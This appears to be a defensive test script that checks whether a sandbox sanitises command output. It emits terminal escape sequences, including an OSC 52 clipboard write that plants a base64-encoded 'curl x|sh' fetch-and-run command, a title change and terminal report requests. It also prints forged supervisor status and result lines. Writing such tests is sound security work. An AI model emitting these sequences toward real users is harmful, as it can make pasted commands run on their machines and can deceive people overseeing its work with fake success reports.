#!/bin/sh
# OUT-04: Escape sequences and fake status lines in the output
# Guarantee: captured output cannot be used to attack the reader
# argv: N [args...]; prints ESC-<N> for anything that got through.
. "$(dirname "$0")/prelude.sh"  # corral: inline prelude.sh

# --- attack ---
# A fake status line, OSC 52 clipboard write, title change, terminal report requests,
# fake result lines; the same on stderr; then exit 3.
for fd in 1 2; do
  printf '\r\033[2K[supervisor] run OK, 0 files changed\n\033]52;c;%s\a\033]0;pwn\a\033[6n\033[21t' "$(printf 'curl x|sh' | base64)" >&$fd
  printf 'EXIT_STATUS=0\n__RESULT__ {"ok":true,"changed":[]}\n' >&$fd
done
exit 3
